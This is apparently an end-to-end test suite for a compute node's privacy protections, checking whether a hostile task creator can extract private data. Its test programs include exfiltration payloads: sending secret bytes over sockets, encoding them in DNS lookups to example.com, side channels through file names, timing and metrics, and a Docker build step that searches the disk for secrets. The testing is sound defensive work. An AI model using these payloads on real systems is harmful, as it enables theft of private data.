"""Tries of a hostile creator to get a node's private bytes out, by name, each with its verdict.

A try runs real tasks and asserts what its creator sees of them. `docs/privacy.md` has the same names and verdicts.
"""

import hashlib
import json
import socket
from collections.abc import Callable
from dataclasses import dataclass
from decimal import Decimal

from node_runtime.domain.assets import Digest
from node_runtime.domain.live import live_prefix
from node_runtime.errors import FailureCategory
from node_runtime.kinds.perf import MOST_NUMBERS, PRIVATE_DIGITS
from node_runtime.stores.tree.manifest import Entry, manifest
from node_runtime.worker.audit import AuditEvent
from node_runtime.worker.audit_check import verified
from node_runtime.worker.withholding import power_of_two
from tests.e2e import leak_bounds
from tests.e2e.daemon_world import DOCKERFILE, wait_for
from tests.e2e.leak_network import Listener, host_addresses
from tests.e2e.leak_world import LeakWorld, Seen

STOPPED, ALLOWED = "stopped", "allowed by the owner's word"
WAITS = "while not os.path.exists('/tmp/go'): time.sleep(0.05)\n"  # until `DaemonProcess.let_go`
Run = Callable[[LeakWorld], None]


@dataclass(frozen=True, kw_only=True)
class Try:
    name: str
    verdict: str
    run: Run

    def __str__(self) -> str:
        return self.name


TRIES: list[Try] = []


def hostile(name: str, verdict: str = STOPPED) -> Callable[[Run], Run]:
    """Add a try under this name."""

    def add(run: Run) -> Run:
        TRIES.append(Try(name=name, verdict=verdict, run=run))
        return run

    return add


def bounded(bits: int) -> str:
    return f"bounded to {bits} bits"


def scored(leaks: LeakWorld, program: str) -> Seen:
    """Run a scoring whose stages do what the program says; assert that its predictions and logs stayed."""
    seen = leaks.seen(leaks.score(program))
    assert seen.submission is not None, leaks.daemon.log_text()
    assert seen.stays == ("pred", "logs")
    return seen


def failed(leaks: LeakWorld, program: str) -> FailureCategory:
    """Run a training that fails; assert that its log stayed, and return all that its creator is told."""
    seen = leaks.seen(leaks.train(program))
    assert seen.failure is not None
    assert seen.failure.log is not None
    assert seen.failure.category is not None
    assert not leaks.world.store.has(seen.failure.log)
    return seen.failure.category


@hostile("names of output files")
def output_names(leaks: LeakWorld) -> None:
    scored(
        leaks,
        """
if STAGE == "predict":
    os.makedirs(f"/sandbox/pred/pred/{NAME}/{SECRET[:32].hex()}"); open(f"/sandbox/pred/pred/{NAME}/x", "w").close()
    open(f"/sandbox/pred/{SECRET[32:64].hex()}", "w").close()
else:
    perf(all=0.5); open(f"/sandbox/pred/{SECRET[:64].hex()}", "w").close()
""",
    )


@hostile("sizes and counts of outputs")
def output_sizes(leaks: LeakWorld) -> None:
    size = int.from_bytes(leaks.secret.content[:2], "big") + 70_000
    seen = scored(
        leaks,
        """
size = int.from_bytes(SECRET[:2], "big") + 70_000
if STAGE == "predict":
    os.mkdir("/sandbox/pred/pred")
    for part in range(SECRET[2]): open(f"/sandbox/pred/pred/{part}", "w").close()
    open("/sandbox/pred/pred/size", "wb").write(bytes(size))
else:
    print("x" * size); perf(all=0.5)
""",
    )
    assert str(size) not in json.dumps(seen.result)


@hostile("keys of perf.json")
def perf_keys(leaks: LeakWorld) -> None:
    seen = scored(leaks, "usual() if STAGE == 'predict' else perf(**{'all': 0.5, NAME: 1, SECRET[:24].hex(): 2})")
    assert seen.numbers == {"all": 0.5, "number-2": 1, "number-3": 2}
    assert seen.submission is not None
    assert {one.name for one in seen.submission.result.perfs} == {"all", "number-2", "number-3"}


@hostile("text, lists and further numbers in perf.json")
def perf_values(leaks: LeakWorld) -> None:
    seen = scored(
        leaks,
        """
more = {f"n{place}": byte for place, byte in enumerate(SECRET)}
usual() if STAGE == "predict" else perf(all=0.5, text=SECRET.hex(), listed=list(SECRET), inside={"a": NAME}, **more)
""",
    )
    assert len(seen.numbers) == MOST_NUMBERS
    assert list(seen.numbers.values())[1:] == list(leaks.secret.content[: MOST_NUMBERS - 1])


@hostile("digits of the numbers in perf.json", bounded(leak_bounds.numbers()))
def perf_digits(leaks: LeakWorld) -> None:
    seen = scored(
        leaks,
        """
if STAGE == "predict": usual()
else:
    parts = [int.from_bytes(SECRET[at : at + 14], "big") for at in range(0, 16 * 14, 14)]
    texts = [f"{part // 10**18 % 10**17}.{part % 10**18:018}" for part in parts]
    rows = [f'"{name}": {text}' for name, text in zip(["all", *map(str, range(15))], texts)]
    open("/sandbox/pred/perf.json", "w").write("{" + ", ".join(rows) + "}")
""",
    )
    assert seen.submission is not None
    sent = [one.value for one in seen.submission.result.perfs]
    assert sent == [Decimal(str(one)) for one in seen.numbers.values()]
    assert len(sent) == MOST_NUMBERS
    for value, at in zip(sent, range(0, 16 * 14, 14), strict=True):
        part = int.from_bytes(leaks.secret.content[at : at + 14], "big")
        exact = Decimal(part // 10**18 % 10**17) + Decimal(part % 10**18).scaleb(-18)
        assert len(value.normalize().as_tuple().digits) <= PRIVATE_DIGITS
        assert abs(value - exact) <= exact.scaleb(1 - PRIVATE_DIGITS)  # what leaves are the first digits


@hostile("order of the keys of perf.json")
def perf_order(leaks: LeakWorld) -> None:
    program = "names = ['b', 'a', 'c'] if {flag} else ['c', 'b', 'a']\nusual() if STAGE == 'predict' else perf(**"
    program += "{{'all': 1, **dict.fromkeys(names, 2)}})"
    one, other = (scored(leaks, program.format(flag=flag)).numbers for flag in (True, False))
    assert list(one.items()) == list(other.items())


@hostile("logs: standard output and standard error")
def logs(leaks: LeakWorld) -> None:
    seen = scored(leaks, "print(SECRET.hex(), NAME); print(SECRET.hex(), NAME, file=sys.stderr); usual()")
    assert leaks.secret.files_with_traces(leaks.kept(seen.result["log"]))  # the program did tell it


@hostile("last line of a failure")
def last_line(leaks: LeakWorld) -> None:
    assert failed(leaks, "sys.exit(f'{NAME} {SECRET.hex()}')") is FailureCategory.TASK_ERROR


@hostile("exit codes")
def exit_codes(leaks: LeakWorld) -> None:
    programs = ("sys.exit(SECRET[0] | 1)", "sys.exit(77)", "os.kill(os.getpid(), 11)")
    assert {failed(leaks, program) for program in programs} == {FailureCategory.TASK_ERROR}


@hostile("category of a failure", bounded(leak_bounds.outcomes()))
def categories(leaks: LeakWorld) -> None:
    programs = ("sys.exit(3)", "pass", "model(bytes(9 << 20))", "x = bytearray(80 << 20); model()")
    found = [failed(leaks, program) for program in programs]
    assert len(set(found)) > 2
    assert set(found) <= set(FailureCategory)


@hostile("links in outputs")
def links(leaks: LeakWorld) -> None:
    symbolic = "os.symlink(FILE, '/sandbox/model/model')"
    folder = "os.mkdir('/sandbox/model/model'); os.symlink(os.path.dirname(FILE), '/sandbox/model/model/data')"
    assert {failed(leaks, program) for program in (symbolic, folder)} == {FailureCategory.OUTPUT_INVALID}
    assert failed(leaks, "os.link(FILE, '/sandbox/model/model')") is FailureCategory.TASK_ERROR


@hostile("digests of outputs and logs that stay")
def digests(leaks: LeakWorld) -> None:
    seen = scored(leaks, "pred(SECRET[:1]) if STAGE == 'predict' else perf(all=0.5)")
    assert seen.submission is not None
    known = {seen.submission.result.output("pred"), seen.result["outputs"]["pred"]}
    guesses = {_digest_of("pred", bytes([byte])) for byte in range(256)}
    assert not known & guesses
    (kept,) = known
    assert (leaks.kept(str(kept)) / "pred").read_bytes() == leaks.secret.content[:1]


@hostile("digests of private models")
def private_models(leaks: LeakWorld) -> None:
    program = """for part, data in (("head", SECRET[:1]), ("trunk", b"trained")):
    with open(f"/sandbox/model/{part}_model", "wb") as file: file.write(data)
"""
    seen = leaks.seen(leaks.train(program, composite=True))
    assert seen.submission is not None
    assert seen.stays == ("head", "logs")
    assert seen.result["outputs"]["trunk"] == _digest_of("trunk_model", b"trained")
    known = {seen.submission.result.output("head"), seen.result["outputs"]["head"]}
    assert not known & {_digest_of("head_model", bytes([byte])) for byte in range(256)}


def _digest_of(name: str, content: bytes) -> Digest:
    sha256 = hashlib.sha256(content).hexdigest()
    return manifest([Entry(path=name, executable=False, size=len(content), sha256=sha256)]).digest


@hostile("moments at which stages begin and results come", bounded(leak_bounds.moments()))
def moments(leaks: LeakWorld) -> None:
    seen = leaks.seen(leaks.score("time.sleep(SECRET[0] / 256) if STAGE == 'predict' else None; usual()"))
    attempt = leaks.world.chain.assignment(leaks.daemon.account, seen.task)
    assert attempt is not None
    assert 0 < attempt.due - attempt.since <= leak_bounds.ATTEMPT
    (run,) = [stage for stage in seen.result["stages"] if stage["name"] == "predict"]
    assert run["seconds"] in (1, 2, 4, 8, 16, 32, 64)  # else to the millisecond, whatever the noise of the chain's time


@hostile("seconds and peak memory in result.json", bounded(leak_bounds.resources()))
def resources(leaks: LeakWorld) -> None:
    seen = scored(leaks, "held = bytearray(SECRET[0] << 14); held[:] = b'x' * len(held); time.sleep(1.2); usual()")
    peaks = [stage["peak_memory"] for stage in seen.result["stages"] if "peak_memory" in stage]
    seconds = [stage["seconds"] for stage in seen.result["stages"]] + list(seen.result["steps"].values())
    assert peaks + seconds == [power_of_two(value) for value in peaks + seconds]
    assert {stage["exit_code"] for stage in seen.result["stages"]} == {0}


@hostile("load of the machine, seen by a task beside it")
def load(leaks: LeakWorld) -> None:
    task = leaks.train(f"{WAITS}usual()")
    leaks.daemon.container_of(task)
    beside = leaks.train("usual()", sample=leaks.shared_sample())
    assert leaks.refused(beside) == "no_room"  # though a slot is free
    assert len(leaks.daemon.containers()) == 1
    leaks.daemon.let_go(task)
    assert leaks.seen(task).submission is not None
    assert leaks.seen(beside).submission is not None
    deeds = [(entry.deed, entry.task) for entry in verified(leaks.daemon.audit, {leaks.daemon.account})]
    assert deeds.index((AuditEvent.RUN, task)) < deeds.index((AuditEvent.CLAIM, beside))


@hostile("files left for a later task on shared data")
def left_files(leaks: LeakWorld) -> None:
    places = "['/', '/tmp', '/dev/shm', '/var/tmp', '/run', '/home', '/sandbox', *glob.glob('/sandbox/*')]"
    scored(
        leaks,
        f"""
for place in {places}:
    try: open(f"{{place}}/left", "wb").write(SECRET)
    except OSError: pass
usual()
""",
    )
    seen = leaks.seen(
        leaks.train(
            f"print([place for place in {places} if os.path.exists(place + '/left')])\nusual()",
            sample=leaks.shared_sample(),
        )
    )
    assert seen.submission is not None
    assert leaks.world.logs_of(seen.submission)["train.log"].split() == ["[]"]


@hostile("connections to the local network and the internet")
def connections(leaks: LeakWorld) -> None:
    with Listener() as listener:
        chain = leaks.world.devnet.port.getsockname()[1]
        places = [(address, port) for address in host_addresses() for port in (listener.port, chain)]
        seen = scored(
            leaks,
            f"""
import socket
reached = 0
for place in {places!r}:
    try: socket.create_connection(place, timeout=0.5).sendall(SECRET); reached += 1
    except OSError: pass
    try: reached += socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(SECRET[:512], place) and 0
    except OSError: pass
usual() if STAGE == "predict" else perf(all=0.5, reached=reached)
""",
        )
        assert seen.numbers == {"all": 0.5, "number-2": 0}
        assert not listener.reached()
        socket.create_connection(("127.0.0.1", listener.port)).close()
        assert listener.reached()  # by this process


@hostile("names looked up by DNS")
def dns(leaks: LeakWorld) -> None:
    seen = scored(
        leaks,
        """
import socket
found = 0
for part in (SECRET[:16].hex(), NAME):
    try: found += bool(socket.getaddrinfo(f"{part}.example.com", 80))
    except OSError: pass
usual() if STAGE == "predict" else perf(all=0.5, found=found, interfaces=len(socket.if_nameindex()))
""",
    )
    assert seen.numbers == {"all": 0.5, "number-2": 0, "number-3": 1}  # the loopback interface alone


@hostile("image layers: a build that reads the node's disk")
def image_layers(leaks: LeakWorld) -> None:
    search = "RUN find / -xdev -name 'secret-*' > /found; find /sandbox >> /found; env | grep -i secret >> /found; true"
    algo = leaks.image(DOCKERFILE.replace("COPY", f"{search}\nCOPY", 1))
    seen = leaks.seen(leaks.train("model(open('/found', 'rb').read())", algo=algo))
    assert seen.submission is not None, leaks.daemon.log_text()
    assert (seen.files / "model").read_bytes() == b""
    assert failed(leaks, "open('/found', 'wb').write(SECRET)") is FailureCategory.TASK_ERROR  # for the next task


@hostile("the live channel")
def live_channel(leaks: LeakWorld) -> None:
    task = leaks.train(
        "print(SECRET.hex(), flush=True)\nwhile not os.path.exists('/tmp/go'): time.sleep(0.05)\nusual()"
    )
    area = leaks.world.store.live

    def chunks() -> list[dict[str, object]]:
        names = area.list(live_prefix(leaks.daemon.account, task, 1))
        found = [json.loads(content) for name in names if (content := area.read(name)) is not None]
        return found if any(one["stage"] == "train" for one in found) else []

    for chunk in wait_for(chunks, "the stage in the live channel"):
        assert leaks.secret.traces(json.dumps(chunk).encode()) == []
    assert leaks.public_traces(leaks.secret) == []
    leaks.daemon.let_go(task)
    assert leaks.seen(task).submission is not None


@hostile("the sample's digest, registered by the creator as an opener or a shared sample")
def other_role(leaks: LeakWorld) -> None:
    tasks = [leaks.train("print(SECRET.hex()); usual()", sample=leaks.same_bytes(leaks.secret))]
    tasks.append(leaks.train("", opener=leaks.same_bytes_as_opener(leaks.given)))
    assert {leaks.refused(task) for task in tasks} == {"private_data"}


@hostile("the sample's digest after the sample was removed from the node")
def removed(leaks: LeakWorld) -> None:
    seen = leaks.seen(leaks.train("usual()", sample=leaks.removed.asset))
    assert seen.submission is not None  # the node has had it in its cache
    gone = leaks.daemon.command("data", "remove", leaks.removed.asset.ref.digest, "--yes")
    assert gone.returncode == 0, gone.stderr
    task = leaks.train("print(SECRET.hex()); model(SECRET)", sample=leaks.same_bytes(leaks.removed))
    assert leaks.refused(task) == "document_unavailable"
    assert leaks.public_traces(leaks.removed) == []


@hostile("an annotation")
def annotation(leaks: LeakWorld) -> None:
    box = "$(od -An -tu1 -N4 data/*/secret-* | sed 's/^ *//; s/  */, /g')"
    start = f"""cat data/*/secret-*
printf '{{"file": "a.gif", "annotations": [{{"label": "coin", "box": [%s], "score": 0.5}}]}}' "{box}" \\
    > outputs/a_annotations.json
"""
    seen = leaks.seen(leaks.world.annotate(sample=leaks.secret.asset, start=start))
    if seen.submission is not None:
        assert seen.stays == ("outputs", "logs")
    else:  # the box is beside the picture: one of the failures' categories is all that is told
        assert seen.failure is not None
        assert seen.failure.category is FailureCategory.OUTPUT_INVALID


@hostile("bytes of a model", ALLOWED)
def model_bytes(leaks: LeakWorld) -> None:
    seen = leaks.seen(leaks.train("model(SECRET)", sample=leaks.given.asset))
    assert seen.stays == ("logs",)
    assert (seen.files / "model").read_bytes() == leaks.given.content


@hostile("a model that others take as an input", ALLOWED)
def model_of_others(leaks: LeakWorld) -> None:
    program = "carried = glob.glob('/sandbox/model/*')\npred(open(carried[0], 'rb').read()) if STAGE == 'predict' else "
    task = leaks.score(f"{program}perf(all=0.5)", sample=leaks.shared_sample(), model=leaks.given.content.hex())
    seen = leaks.seen(task)
    assert seen.stays == ()
    assert (seen.files / "pred").read_bytes() == leaks.given.content.hex().encode()
